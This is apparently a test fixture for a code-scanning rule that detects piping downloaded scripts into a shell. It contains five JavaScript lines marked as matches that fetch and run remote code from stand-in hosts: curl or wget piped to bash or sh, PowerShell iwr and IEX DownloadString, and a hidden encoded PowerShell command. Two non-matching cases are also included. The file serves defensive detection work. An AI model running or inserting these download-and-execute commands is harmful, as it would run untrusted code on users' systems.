// ruleid: pipes-download-to-shell
execSync("curl -s https://example.invalid/i.sh | bash");
// ruleid: pipes-download-to-shell
exec(`wget -qO- ${host}/x | sh`, () => {});
// ruleid: pipes-download-to-shell
spawn("powershell", ["-c", "iwr https://example.invalid/x.ps1 | iex"]);
// ruleid: pipes-download-to-shell
exec("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')\"");
// ruleid: pipes-download-to-shell
exec("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=");

// ok: pipes-download-to-shell
fetch(url).then((answer) => answer.json() | node);
// ok: pipes-download-to-shell
execSync("node build.js | tee log");
